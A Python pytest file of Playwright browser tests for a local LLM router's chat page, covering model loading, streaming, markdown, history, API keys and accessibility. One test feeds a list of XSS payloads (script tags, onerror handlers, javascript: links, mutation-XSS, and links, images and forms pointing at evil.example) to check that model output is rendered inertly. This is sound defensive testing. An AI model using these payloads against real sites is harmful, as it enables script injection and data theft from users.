"""The page in a real Chromium: chats with real and scripted models, from the first key press to what a model must never be able to do."""

import base64
import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from browser import PHONE, Tab, violations
from chat_page import ANSWER, CHAT, IDLE, TEXT, ask, delta, is_wider_than_window, pick, says, sse
from conftest import Router, StartRouter, eventually
from tiny_models import make_llama

PNG = base64.b64decode("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==")


@pytest.fixture(scope="module")
def real(module_router: StartRouter, smollm2: Path, tmp_path_factory: pytest.TempPathFactory) -> Router:
    folder = tmp_path_factory.mktemp("page")
    for seed in range(2):
        make_llama(folder / f"tiny{seed}.gguf", seed=seed)
    (folder / "smollm2.gguf").symlink_to(smollm2)
    whole = (folder / "tiny0.gguf").read_bytes()
    (folder / "cut.gguf").write_bytes(whole[: len(whole) // 2])
    return module_router("-c", "2048", "-n", "40", models_dir=folder)


@pytest.fixture(scope="module")
def scripted(module_router: StartRouter, tmp_path_factory: pytest.TempPathFactory) -> Router:
    folder = tmp_path_factory.mktemp("scripts")
    scripts = {
        "calm": {},
        "slow": {"progress": [0.1, 0.4, 0.7], "load_s": 2.4},
        "a-model-with-a-name-as-long-as-they-come-Q4_K_M": {},
        "bad": {"fail": "tensor 'blk.0.attn_q.weight' not found", "lines": ["llama: check_tensor_dims"]},
    }
    for name, script in scripts.items():
        (folder / f"{name}.gguf").write_text(json.dumps(script))
    return module_router(models_dir=folder, is_fake=True)


# ---------------------------------------------------------------- real models


def test_pick_load_chat_and_switch_with_the_keyboard_alone(real: Router, tab: Tab) -> None:
    page = tab.open(real)
    page.wait_for_selector(".card")
    pick(page, "smol")
    assert page.evaluate("document.activeElement.id") == "composer-text"
    page.keyboard.type("Say hello.")
    page.keyboard.press("Enter")
    page.wait_for_selector(IDLE)
    answer = page.locator(ANSWER)
    assert answer.locator(".prose").inner_text().strip()
    assert answer.locator(".author").inner_text() == "smollm2"
    figures = answer.locator(".figures").inner_text()
    assert all(word in figures for word in ("tokens/s", "first token", "Switched", "load", "prefill", "answer")), figures
    assert "of 2,048 tokens" in page.locator(".gauge").inner_text()
    assert page.locator(".picker-button .dot").first.get_attribute("data-state") == "loaded"
    pick(page, "tiny1")
    page.keyboard.type("the cat")
    page.keyboard.press("Enter")
    page.wait_for_selector(".answer >> nth=1")
    page.wait_for_selector(IDLE)
    assert page.locator(".author").all_inner_texts() == ["smollm2", "tiny1"]
    assert real.status("tiny1") == "loaded"
    page.keyboard.press("Control+Shift+O")
    page.wait_for_selector(".welcome")
    assert page.locator(".conversation").count() == 1


def test_load_pin_and_unload_in_the_drop_down(real: Router, tab: Tab) -> None:
    page = tab.open(real)
    page.wait_for_selector(".card")
    page.keyboard.press("Control+k")
    page.keyboard.type("tiny0")
    row = page.locator('.picker-row[data-model="tiny0"]')
    if real.status("tiny0") != "unloaded":
        real.unload("tiny0")
    row.get_by_role("button", name="Load tiny0", exact=True).wait_for()
    page.keyboard.press("Tab")
    assert page.evaluate("document.activeElement.getAttribute('aria-label')") == "Load tiny0"
    page.keyboard.press("Enter")
    row.get_by_role("button", name="Unload tiny0").wait_for()
    real.await_status("tiny0", "loaded")
    row.get_by_role("button", name="Pin tiny0").click()
    row.get_by_role("button", name="Unpin tiny0").wait_for()
    assert real.get("/v1/models/tiny0").json["usage"]["pinned"]
    row.get_by_role("button", name="Unpin tiny0").click()
    row.get_by_role("button", name="Unload tiny0").click()
    row.get_by_role("button", name="Load tiny0", exact=True).wait_for()
    real.await_status("tiny0", "unloaded")
    page.fill(".picker-search input", "no such model")
    page.get_by_text("No model has this name.").wait_for()
    page.keyboard.press("Escape")
    assert not page.locator(".picker-panel").first.is_visible()


def test_what_another_client_does_is_seen_at_once(real: Router, tab: Tab) -> None:
    page = tab.open(real)
    page.wait_for_selector('.card[data-model="tiny1"]')
    for act in ("unload", "load", "unload") if real.status("tiny1") == "loaded" else ("load", "unload"):
        getattr(real, act)("tiny1")
        page.wait_for_selector(f'.card[data-model="tiny1"] .dot[data-state="{act}ed"]')


def test_a_model_that_cannot_be_loaded_says_why(real: Router, tab: Tab) -> None:
    page = tab.open(real)
    page.wait_for_selector('.card[data-model="cut"] .dot[data-state="failed"]')
    pick(page, "cut")
    ask(page, "hello")
    failure = page.locator(".failure")
    assert "could not be loaded" in failure.inner_text()
    assert "incomplete" in failure.inner_text()


def test_two_models_side_by_side(real: Router, tab: Tab) -> None:
    page = tab.open(real)
    page.wait_for_selector(".card")
    pick(page, "tiny0")
    page.get_by_role("button", name="Two models side by side").click()
    page.locator('.picker[data-label="Second model"] .picker-button').click()
    page.keyboard.type("tiny1")
    page.keyboard.press("Enter")
    ask(page, "the dog")
    assert page.locator(".pair .author").all_inner_texts() == ["tiny0", "tiny1"]
    assert all(text.strip() for text in page.locator(".pair .prose").all_inner_texts())
    page.get_by_role("button", name="Continue with this one").click()
    page.get_by_role("button", name="Two models side by side").click()
    with page.expect_request(CHAT) as request:
        ask(page, "and the cat?")
    second = page.locator(".pair .prose").nth(1).inner_text()
    sent = request.value.post_data_json["messages"]
    assert [message["role"] for message in sent] == ["user", "assistant", "user"]
    assert sent[1]["content"].split() == second.split()
    page.wait_for_selector(".answer >> nth=2")


# ---------------------------------------------------------------- answers


def test_loading_is_told_while_it_lasts(scripted: Router, tab: Tab) -> None:
    page = tab.open(scripted)
    page.wait_for_selector(".card")
    pick(page, "slow")
    ask(page, says("here"), waits=False)
    page.locator(".wait", has_text="Loading slow 40%").wait_for()
    page.wait_for_selector(IDLE)
    assert page.locator(".prose").inner_text() == "here"
    assert "Switched" in page.locator(".figures").inner_text()


def test_a_failed_load_shows_its_cause_and_is_tried_again(scripted: Router, tab: Tab) -> None:
    page = tab.open(scripted)
    page.wait_for_selector(".card")
    pick(page, "bad")
    ask(page, "hello")
    failure = page.locator(".failure")
    assert "damaged, incomplete" in failure.inner_text()
    assert not failure.locator("pre").is_visible()
    failure.locator("summary").click()
    assert "tensor 'blk.0.attn_q.weight' not found" in failure.locator("pre").inner_text()
    assert "check_tensor_dims" in failure.locator("pre").inner_text()
    with page.expect_request(CHAT) as request:
        failure.get_by_role("button", name="Try again").click()
    assert request.value.post_data_json["model"] == "bad"
    page.wait_for_selector(IDLE)
    assert page.locator(".answer").count() == 1
    page.get_by_role("button", name="Choose another model", exact=True).click()
    page.keyboard.type("calm")
    page.keyboard.press("Enter")
    page.wait_for_selector(".answer[aria-busy=false] .prose:not(:empty)")
    assert page.locator(".author").all_inner_texts() == ["calm"]
    assert "2 / 2" in page.locator(".answer .siblings").inner_text()


def test_stop_keeps_what_has_come(scripted: Router, tab: Tab) -> None:
    page = tab.open(scripted)
    page.wait_for_selector(".card")
    pick(page, "calm")
    ask(page, {"tokens": 3000, "delay_s": 0.02}, waits=False)
    page.locator(".prose", has_text="t3").wait_for()
    page.keyboard.press("Escape")
    page.locator(".note", has_text="Stopped").wait_for()
    assert "t3" in page.locator(".prose").inner_text()
    eventually(lambda: not scripted.is_processing("calm"), "the end of the stopped stream")
    page.get_by_role("button", name="Send").wait_for()


def test_edit_branch_and_regenerate(scripted: Router, tab: Tab) -> None:
    page = tab.open(scripted)
    page.wait_for_selector(".card")
    pick(page, "calm")
    ask(page, says("first"))
    page.press(TEXT, "ArrowUp")
    page.fill(".edit textarea", json.dumps(says("second")))
    page.keyboard.press("Enter")
    page.locator(".prose", has_text="second").wait_for()
    page.wait_for_selector(IDLE)
    assert page.locator(".question .siblings").inner_text().strip() == "2 / 2"
    page.locator(".question").get_by_role("button", name="Previous version").click()
    page.locator(".prose", has_text="first").wait_for()
    page.get_by_role("button", name="Answer again", exact=True).click()
    page.wait_for_selector(IDLE)
    assert page.locator(".answer .siblings").inner_text().strip() == "2 / 2"
    assert page.locator(".question .siblings").inner_text().strip() == "1 / 2"


RICH = r"""# Title

Euler: $e^{i\pi} + 1 = 0$, for $5 or $6.

$$\frac{\sqrt{\pi}}{2}$$

| a | b |
|---|--:|
| 1 | 2 |

```python
def f(x):  # comment
    return "text"
```

- one
- [site](https://example.org)
"""


def test_markdown_code_tables_and_formulas(scripted: Router, tab: Tab) -> None:
    page = tab.open(scripted)
    page.wait_for_selector(".card")
    pick(page, "calm")
    ask(page, says(RICH))
    prose = page.locator(".prose")
    page.wait_for_selector(".prose math mfrac")
    assert prose.locator("math").count() == 2
    assert "for $5 or $6." in prose.inner_text()
    assert prose.locator("td").all_inner_texts() == ["1", "2"]
    page.wait_for_selector(".hljs-keyword")
    assert prose.locator(".hljs-keyword").first.inner_text() == "def"
    assert prose.locator("pre").inner_text() == 'def f(x):  # comment\n    return "text"\n'
    assert prose.locator("a").get_attribute("rel") == "noopener noreferrer nofollow"
    tab.context.grant_permissions(["clipboard-read", "clipboard-write"])
    prose.get_by_role("button", name="Copy").click()
    prose.get_by_text("Copied").wait_for()
    assert page.evaluate("navigator.clipboard.readText()") == 'def f(x):  # comment\n    return "text"\n'


ATTACKS = (
    "<script>window.hacked = 1</script>",
    "<img src=x onerror='window.hacked=1'>",
    "<svg onload=window.hacked=1><animate onbegin=window.hacked=1></svg>",
    "<b onclick=window.hacked=1 class=danger id=composer>bold</b>",
    "[a](javascript:window.hacked=1) [b](data:text/html,<script>window.hacked=1</script>) [c](  jAvAsCrIpT&colon;window.hacked=1)",
    "![p](https://evil.example/pixel.png?secret) ![q](/models?reload=1)",
    "<style>*{display:none}</style><link rel=stylesheet href=//evil.example/x.css>",
    "<iframe src=//evil.example></iframe><form action=//evil.example><input name=key></form>",
    "```js\"><img/src/onerror=window.hacked=1>\n</code></pre><script>window.hacked=1</script>\n```",
    "$\\href{javascript:window.hacked=1}{x}$ $\\style{color:red}{x}$ $</span><img src=x onerror=window.hacked=1>$",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=window.hacked=1&gt;\">",
    "<a href=\"https://x.example\" onmouseover=window.hacked=1>link</a><meta http-equiv=refresh content=0;url=//evil.example>",
    "<think><img src=x onerror=window.hacked=1></think><img src=x onerror=window.hacked=1>",
)  # fmt: skip


# Elements that could act, ids, and listeners in attributes; the head of a code block is ours.
FIND_LIVE = """[...document.querySelectorAll('.prose *')].filter((element) => !element.closest('.code-head') && (element.id
    || /^(script|img|svg|style|link|iframe|form|input|meta|object|embed)$/i.test(element.tagName)
    || [...element.attributes].some(({ name }) => name.startsWith('on')))).map((element) => element.outerHTML)"""


def test_what_a_model_says_is_text(scripted: Router, tab: Tab) -> None:
    page = tab.open(scripted)
    page.wait_for_selector(".card")
    pick(page, "calm")
    for attack in ATTACKS:
        ask(page, says(f"before\n\n{attack}\n\nafter"))
        ask(page, says(attack))
        page.keyboard.press("Control+Shift+O")
        page.locator(".welcome").wait_for()
    for conversation in page.locator(".conversation").all():
        conversation.click()
        page.locator(".prose >> nth=0").wait_for()
        for summary in page.locator("details.reasoning summary").all():
            summary.click()
        for link in page.locator(".prose a").all():
            assert (link.get_attribute("href") or "https://").startswith(("https://", "http://", "mailto:"))
        assert page.evaluate(FIND_LIVE) == []
    assert page.evaluate("window.hacked") is None
    assert page.locator(".conversation").count() == len(ATTACKS)


def test_reasoning_tool_calls_and_a_broken_stream(scripted: Router, tab: Tab) -> None:
    page = tab.open(scripted)
    page.wait_for_selector(".card")
    pick(page, "calm")
    calls = [{"index": 0, "function": {"name": "weather", "arguments": '{"place":'}}], [{"index": 0, "function": {"arguments": ' "Rome"}'}}]
    bodies = [
        sse(delta(reasoning_content="I weigh it"), delta(content="Yes"), *(delta(tool_calls=call) for call in calls), "[DONE]"),
        sse(delta(content="half"), {**delta(), "error": {"code": "worker_died", "type": "server_error", "message": "the worker died"}}),
        sse(delta(content="cut")),
    ]
    page.route(CHAT, lambda route: route.fulfill(content_type="text/event-stream", body=bodies.pop(0)))
    ask(page, "weather?")
    assert page.locator(".tool-call pre").inner_text().split() == ["{", '"place":', '"Rome"', "}"]
    assert not page.locator(".thoughts").is_visible()
    page.locator(".reasoning summary").click()
    assert page.locator(".thoughts").inner_text() == "I weigh it"
    ask(page, "and now?")
    assert "the worker died" in page.locator(".failure").inner_text()
    assert page.locator(f"{ANSWER} >> .prose").inner_text() == "half"
    ask(page, "and now?")
    page.locator(".failure", has_text="ended too early").wait_for()
    page.unroute(CHAT)
    page.route(CHAT, lambda route: route.fulfill(status=500, json={"error": {"code": 500, "message": "no", "type": "server_error"}}))
    ask(page, "lost")
    page.unroute(CHAT)
    with page.expect_request(CHAT) as request:
        ask(page, "last")
    sent = [message["content"] for message in request.value.post_data_json["messages"]]
    assert sent == ["weather?", "Yes", "No result.", "and now?", "half", "and now?", "cut", "last"]
    assert not bodies


COUNT_MADE = """() => {
    window.numMade = 0;
    const count = (node) => (node.nodeType === 1 ? 1 + node.querySelectorAll('*').length : 0);
    const observer = new MutationObserver((changes) => {
        for (const { addedNodes } of changes) for (const node of addedNodes) window.numMade += count(node);
    });
    observer.observe(document.querySelector('#thread'), { childList: true, subtree: true });
}"""


@pytest.mark.parametrize("unit", ["word ", "- a point\n", "a paragraph of text\n\n", "```js\nlet x = 1;\n"])
def test_ten_thousand_tokens_are_drawn_once(scripted: Router, tab: Tab, unit: str) -> None:
    """The page makes no more elements than the complete answer has, except for its last block."""
    page = tab.open(scripted)
    page.wait_for_selector(".card")
    pick(page, "calm")
    page.evaluate(COUNT_MADE)
    ask(page, {"tokens": 10_000, "text": unit})
    shown = page.locator(".prose").evaluate("(element) => [element.textContent.length, element.querySelectorAll('*').length]")
    made = page.evaluate("window.numMade")
    assert shown[0] >= 10_000 * len(unit.strip("`js- \n"))
    assert page.locator(".figures").inner_text().startswith("10,000 tokens")
    if unit != "word ":
        assert made < 4 * shown[1] + 5_000, (made, shown)


def test_pictures_are_for_models_that_see_them(scripted: Router, tab: Tab, tmp_path: Path) -> None:
    def sees(route: Any) -> None:
        answer = route.fetch()
        listing = answer.json()
        for model in listing["data"]:
            if model["id"] == "calm":
                model["architecture"]["input_modalities"] = ["text", "image"]
        route.fulfill(response=answer, json=listing)

    tab.page.route("**/models", sees)
    page = tab.open(scripted)
    page.wait_for_selector(".card")
    (tmp_path / "dot.png").write_bytes(PNG)
    pick(page, "slow")
    page.set_input_files('[aria-label="Files"]', tmp_path / "dot.png")
    page.get_by_text("slow cannot see pictures").wait_for()
    pick(page, "calm")
    page.set_input_files('[aria-label="Files"]', tmp_path / "dot.png")
    page.get_by_role("button", name="Remove picture 1").wait_for()
    page.route(CHAT, lambda route: route.fulfill(content_type="text/event-stream", body=sse(delta(content="a dot"), "[DONE]")))
    with page.expect_request(CHAT) as request:
        ask(page, "what is it?")
    picture, text = request.value.post_data_json["messages"][0]["content"]
    assert text == {"type": "text", "text": "what is it?"}
    assert picture["image_url"]["url"] == "data:image/png;base64," + base64.b64encode(PNG).decode()
    assert page.locator(".question img").evaluate("(image) => image.naturalWidth") == 1


# ---------------------------------------------------------------- conversations


def test_history_survives_a_reload_and_can_be_searched_renamed_exported_deleted(scripted: Router, tab: Tab, tmp_path: Path) -> None:
    page = tab.open(scripted)
    page.wait_for_selector(".card")
    pick(page, "calm")
    ask(page, says("kept **words**"))
    page.keyboard.press("Control+Shift+O")
    ask(page, says("other"))
    page.reload()
    page.locator(".conversation >> nth=1").click()
    assert page.locator(".prose strong").inner_text() == "words"
    assert "1 token" in page.locator(".figures").inner_text()
    page.fill('[aria-label="Search conversations"]', "kept missing")
    assert page.locator(".conversation").count() == 0
    page.fill('[aria-label="Search conversations"]', "words KEPT")
    assert page.locator(".conversation").count() == 1

    def menu(act: str) -> None:
        page.locator(".conversations li .icon-button").first.click()
        page.locator(f'.menu [data-act="{act}"]').click()

    menu("rename")
    page.locator("dialog input").fill("My title")
    page.keyboard.press("Enter")
    page.get_by_role("button", name="My title", exact=True).wait_for()
    with page.expect_download() as download:
        menu("markdown")
    assert "# My title" in (text := Path(download.value.path()).read_text())
    assert "## calm\n\nkept **words**" in text
    with page.expect_download() as download:
        menu("json")
    exported = Path(download.value.path()).read_bytes()
    menu("delete")
    page.get_by_role("button", name="Delete", exact=True).click()
    page.get_by_text("Nothing found").wait_for()
    files = {"good.json": exported, "bad.json": b'{"format": "fastrouter-conversations", "conversations": [1]}'}
    for name, content in files.items():
        (tmp_path / name).write_bytes(content)
        page.set_input_files('[aria-label="File to import"]', tmp_path / name)
    page.get_by_text("Conversation 1 of the file has no messages").wait_for()
    page.get_by_role("button", name="My title", exact=True).click()
    assert page.locator(".prose strong").inner_text() == "words"


def test_other_tabs_see_what_one_has_done(scripted: Router, tab: Tab) -> None:
    page = tab.open(scripted)
    page.wait_for_selector(".card")
    pick(page, "calm")
    other = tab.context.new_page()
    other.goto(scripted.url)
    ask(page, says("first"))
    other.locator(".conversation").click()
    other.locator(".prose", has_text="first").wait_for()
    ask(page, says("second"))
    other.locator(".prose", has_text="second").wait_for()
    assert other.locator(".answer").count() == 2


def test_settings_travel_with_the_conversation(scripted: Router, tab: Tab) -> None:
    page = tab.open(scripted)
    page.wait_for_selector(".card")
    pick(page, "calm")
    page.get_by_role("button", name="Settings of this conversation").click()
    page.get_by_label("System prompt").fill("Be brief.")
    page.get_by_label("Temperature").fill("0.25")
    page.get_by_label("Maximum tokens").fill("3")
    page.keyboard.press("Enter")
    with page.expect_request(CHAT) as request:
        ask(page, "hello")
    sent = request.value.post_data_json
    assert sent["messages"] == [{"role": "system", "content": "Be brief."}, {"role": "user", "content": "hello"}]
    assert (sent["temperature"], sent["max_tokens"], "top_k" in sent) == (0.25, 3, False)
    assert page.locator(".prose").inner_text().split() == ["t0", "t1", "t2"]
    page.keyboard.press("Control+Shift+O")
    with page.expect_request(CHAT) as request:
        ask(page, "hello")
    assert "temperature" not in request.value.post_data_json


def test_placeholders_are_the_models_own_values(real: Router, tab: Tab) -> None:
    if real.status("tiny0") == "unloaded":
        real.load("tiny0")
    page = tab.open(real)
    page.wait_for_selector(".card")
    pick(page, "tiny0")
    page.get_by_role("button", name="Settings of this conversation").click()
    assert page.get_by_label("Top k").get_attribute("placeholder") == "40"
    assert page.get_by_label("Maximum tokens").get_attribute("placeholder") == "40"
    assert page.get_by_label("Seed").get_attribute("placeholder") == "random"


# ---------------------------------------------------------------- keys and addresses


def test_a_key_is_asked_for_and_kept(router: StartRouter, models: Path, tab: Tab) -> None:
    guarded = router("--api-key", "right", models_dir=models)
    page = tab.open(guarded)
    page.get_by_label("Key", exact=True).fill("wrong")
    page.keyboard.press("Enter")
    page.get_by_text("does not accept this key").wait_for()
    page.get_by_label("Key", exact=True).fill("right")
    page.keyboard.press("Enter")
    page.wait_for_selector('.card[data-model="tiny2"]')
    page.reload()
    page.wait_for_selector('.card[data-model="tiny2"]')
    assert page.locator("dialog").count() == 0


def test_below_a_prefix_and_with_defaults_of_the_router(router: StartRouter, models: Path, tab: Tab) -> None:
    config = json.dumps({"systemMessage": "Be kind.", "temperature": 0.5})
    prefixed = router("--api-prefix", "/llm", "--ui-config", config, models_dir=models)
    page = tab.open(prefixed, "/llm/")
    page.wait_for_selector('.card[data-model="tiny2"]')
    with page.expect_request(CHAT) as request:
        ask(page, "hello")
    assert request.value.url.endswith("/llm/v1/chat/completions")
    assert request.value.post_data_json["messages"][0] == {"role": "system", "content": "Be kind."}
    assert request.value.post_data_json["temperature"] == 0.5


def test_a_router_that_comes_back_is_found_again(router: StartRouter, models: Path, tab: Tab) -> None:
    first = router(models_dir=models)
    page = tab.open(first)
    page.wait_for_selector(".card")
    first.stop()
    page.wait_for_selector(".is-offline")
    pick(page, "tiny0")
    ask(page, "hello")
    page.locator(".failure", has_text="cannot be reached").wait_for()
    router("--port", str(first.port), models_dir=models)
    page.wait_for_selector("html:not(.is-offline)")
    page.get_by_role("button", name="Try again").click()
    page.wait_for_selector(".answer[aria-busy=false] .prose:not(:empty)")


def test_a_hidden_tab_closes_its_event_stream(scripted: Router, tab: Tab) -> None:
    show = """(isHidden) => {
        Object.defineProperty(document, 'hidden', { value: isHidden, configurable: true });
        document.dispatchEvent(new Event('visibilitychange'));
    }"""
    if scripted.status("calm") == "loaded":
        scripted.unload("calm")
    tab.page.clock.install()
    page = tab.open(scripted)
    page.wait_for_selector(".card")
    page.evaluate(show, True)
    with page.expect_event("requestfailed", lambda request: "/models/sse" in request.url):
        page.clock.run_for(61_000)
    with page.expect_response(lambda response: "/models/sse" in response.url):
        page.evaluate(show, False)
    scripted.load("calm")
    page.wait_for_selector('.card[data-model="calm"] .dot[data-state="loaded"]')


# ---------------------------------------------------------------- accessibility


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_axe_finds_nothing_serious(chromium: Any, scripted: Router, scheme: str) -> None:
    tab = Tab(chromium, color_scheme=scheme)
    try:
        page = tab.open(scripted)
        page.wait_for_selector(".card")
        found = violations(page)
        pick(page, "calm")
        ask(page, says(f"<think>hm</think>{RICH}"))
        page.wait_for_selector(".hljs-keyword")
        found += violations(page)
        page.keyboard.press("Control+k")
        found += violations(page)
        page.keyboard.press("Escape")
        page.get_by_role("button", name="Settings of this conversation").click()
        found += violations(page)
        page.keyboard.press("Escape")
        pick(page, "bad")
        ask(page, "hello")
        found += violations(page)
        assert found == []
    finally:
        tab.close()


def test_screen_readers_hear_the_beginning_and_the_end_only(scripted: Router, tab: Tab) -> None:
    page = tab.open(scripted)
    page.wait_for_selector(".card")
    pick(page, "calm")
    page.evaluate("""() => {
        window.spoken = [];
        const region = document.querySelector('#spoken');
        new MutationObserver(() => window.spoken.push(region.textContent)).observe(region, { childList: true, characterData: true });
    }""")
    ask(page, {"tokens": 30, "delay_s": 0.01})
    page.locator("#spoken", has_text="The answer is complete").wait_for()
    assert page.evaluate("window.spoken") == ["The answer begins", "The answer is complete, 30 tokens"]


def test_keys_help_theme_and_drawers(scripted: Router, tab: Tab) -> None:
    page = tab.open(scripted)
    page.wait_for_selector(".card")
    page.locator(".card").first.focus()
    page.keyboard.press("?")
    page.get_by_role("dialog", name="Keyboard").wait_for()
    page.keyboard.press("Escape")
    page.locator(".card").first.focus()
    page.keyboard.press("[")
    page.locator("#sidebar").wait_for(state="hidden")
    page.keyboard.press("/")
    assert page.evaluate("document.activeElement.id") == "composer-text"
    page.get_by_role("button", name="Light or dark").click()
    assert page.evaluate("document.documentElement.dataset.theme") == "dark"
    page.reload()
    assert page.evaluate("document.documentElement.dataset.theme") == "dark"
    page.locator("#sidebar").wait_for(state="hidden")
    page.locator(".card").first.focus()
    page.keyboard.press("]")
    page.locator("#room h2").first.wait_for()
    page.reload()
    page.locator("#room h2").first.wait_for()
    page.wait_for_selector(".card")


def test_on_a_phone(chromium: Any, scripted: Router) -> None:
    tab = Tab(chromium, viewport=PHONE, has_touch=True, is_mobile=True)
    try:
        page = tab.open(scripted)
        page.wait_for_selector(".card")
        pick(page, "calm")
        ask(page, says(RICH + "\n\n`" + "x" * 300 + "`\n\n```\n" + "y" * 300 + "\n```\n"))
        assert not is_wider_than_window(page)
        page.get_by_role("button", name="Two models side by side").click()
        pick(page, "a-model")
        assert not is_wider_than_window(page)
        assert violations(page) == []
        page.get_by_role("button", name="Conversations", exact=False).first.click()
        page.locator(".conversation").first.wait_for()
        assert violations(page) == []
        page.locator(".conversation").first.click()
        page.locator("#sidebar").wait_for(state="hidden")
        page.locator(".picker-button").first.click()
        box = page.locator(".picker-panel").first.bounding_box()
        assert box is not None
        assert 0 <= box["x"] <= box["x"] + box["width"] <= PHONE["width"]
    finally:
        tab.close()


@pytest.fixture(autouse=True)
def _nothing_left(scripted: Router) -> Iterator[None]:
    """No test leaves a stream open for the next one."""
    yield
    eventually(lambda: scripted.status("calm") == "unloaded" or not scripted.is_processing("calm"), "the end of all streams")
